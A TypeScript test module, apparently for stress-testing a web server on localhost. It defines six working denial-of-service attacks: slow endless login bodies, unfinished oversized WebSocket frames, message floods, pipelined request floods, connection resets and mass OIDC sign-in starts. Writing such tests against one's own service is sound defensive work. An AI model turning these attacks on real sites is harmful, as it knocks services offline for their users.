// Attacks on the site's port that exclude other users or fill its memory; each ends by itself.
import { connect, type Socket } from "node:net";

const pause = (ms: number) => new Promise<void>((resolve) => setTimeout(resolve, ms));

/** An attack on a site. @param token Session token, if needed. @returns a result of the attack. */
export type Attack = (url: string, token: string) => Promise<number>;

const open = (url: string): Socket => {
  const socket = connect(Number(new URL(url).port), "127.0.0.1");
  return socket.on("error", () => {}).resume();
};
const upgrade = (token: string) =>
  "GET /api/v1/ws HTTP/1.1\r\nhost: a\r\nconnection: upgrade\r\nupgrade: websocket\r\n" +
  "sec-websocket-version: 13\r\nsec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\n" +
  `authorization: Bearer ${token}\r\n\r\n`;

/** Sign-ins with endless bodies, large and small, 43 MB in all. @returns 0. */
const slowBodies: Attack = async (url) => {
  const sizes = [
    ...Array(70).fill(600 << 10),
    ...Array(200).fill(12_000),
    ...Array(1000).fill(100),
  ];
  const sockets = sizes.map((size) => {
    const socket = open(url);
    socket.write(
      "POST /api/v1/auth/login HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\n" +
        `content-length: 1048576\r\n\r\n${" ".repeat(size)}`,
    );
    return socket;
  });
  await pause(15_000);
  for (const socket of sockets) socket.destroy();
  return 0;
};

/** Opens 120 sockets of a session, each with an unfinished 30 MB message. @returns their number. */
const unfinishedMessages: Attack = async (url, token) => {
  const fragment = new Uint8Array(14 + (1 << 20)), view = new DataView(fragment.buffer);
  view.setUint16(0, 0x02ff);
  view.setBigUint64(2, BigInt(1 << 20));
  let opened = 0;
  await Promise.all(Array.from({ length: 120 }, async () => {
    const socket = connect(Number(new URL(url).port), "127.0.0.1").on("error", () => {});
    const ended = new Promise<void>((resolve) => socket.once("close", () => resolve()));
    const first = new Promise<string>((resolve) =>
      socket.once("data", (bytes) => resolve(String(bytes)))
    );
    socket.write(upgrade(token));
    const answer = await Promise.race([first, ended.then(() => ""), pause(5000).then(() => "")]);
    if (answer.includes(" 101 ")) opened++;
    for (let sent = 0; sent < 30 && !socket.destroyed; sent++) {
      const part = sent === 0 ? fragment : fragment.with(0, 0);
      if (!socket.write(part)) {
        await Promise.race([
          new Promise((resolve) => socket.once("drain", resolve)),
          ended,
          pause(5000),
        ]);
      }
    }
    await pause(2000);
    socket.destroy();
  }));
  return opened;
};

/**
 * 50 sockets of a user that send as many messages as possible for 15 s, and are reopened when
 * closed.
 * @returns the number of opened sockets.
 */
const messageFlood: Attack = async (url, token) => {
  const text = new TextEncoder().encode('{"event":"auth_token_update","token":""}');
  const message = Uint8Array.of(0x81, 0x80 | text.length, 0, 0, 0, 0, ...text);
  const messages = new Uint8Array(200 * message.length);
  for (let n = 0; n < 200; n++) messages.set(message, n * message.length);
  const end = performance.now() + 15_000;
  let opened = 0;
  await Promise.all(Array.from({ length: 50 }, async () => {
    while (performance.now() < end) {
      const socket = connect(Number(new URL(url).port), "127.0.0.1").on("error", () => {});
      const ended = new Promise<void>((resolve) => socket.once("close", () => resolve()));
      socket.on("data", (bytes) => String(bytes).includes(" 101 ") && opened++);
      socket.write(upgrade(token));
      while (!socket.destroyed && performance.now() < end) {
        if (socket.write(messages)) await pause(0);
        else await Promise.race([new Promise((resolve) => socket.once("drain", resolve)), ended]);
      }
      socket.destroy();
      await ended;
    }
  }));
  return opened;
};

/** 100 connections with 2,000 pipelined requests each. @returns 0. */
const requestsAhead: Attack = async (url) => {
  const text = "GET /login HTTP/1.1\r\nhost: a\r\n\r\n".repeat(2000);
  for (let round = 0; round < 5; round++) {
    const sockets = Array.from({ length: 100 }, () => open(url));
    for (const socket of sockets) socket.write(text);
    await pause(2000);
    for (const socket of sockets) socket.destroy();
  }
  return 0;
};

/** Resets 3,000 WebSocket connections before, during and after the response. @returns 0. */
const resets: Attack = async (url, token) => {
  const texts = [
    upgrade(token),
    upgrade("x"),
    "GET /login HTTP/1.1\r\nhost: a\r\n\r\n" + upgrade("x"),
    "GET /",
  ];
  for (let n = 0; n < 3000; n++) {
    const socket = connect(Number(new URL(url).port), "127.0.0.1", () => {
      socket.write(texts[n % texts.length]!);
      setTimeout(() => socket.resetAndDestroy(), n % 20);
    }).on("error", () => {});
    if (n % 10 === 9) await pause(20);
  }
  await pause(500);
  return 0;
};

/** Starts 10,000 sign-ins at the provider. @returns failed responses among the last hundred. */
const begunSignIns: Attack = async (url) => {
  let refused = 0;
  for (let n = 0; n < 10_000; n += 20) {
    await Promise.all(Array.from({ length: 20 }, async () => {
      const answer = await fetch(`${url}/sign-in/oidc`, { redirect: "manual" });
      await answer.body?.cancel();
      const isThere = answer.status === 302 &&
        answer.headers.get("location")?.includes("code_challenge");
      if (n >= 9900 && !isThere) refused++;
    }));
  }
  return refused;
};

export const ATTACKS = {
  slowBodies,
  unfinishedMessages,
  messageFlood,
  requestsAhead,
  resets,
  begunSignIns,
};
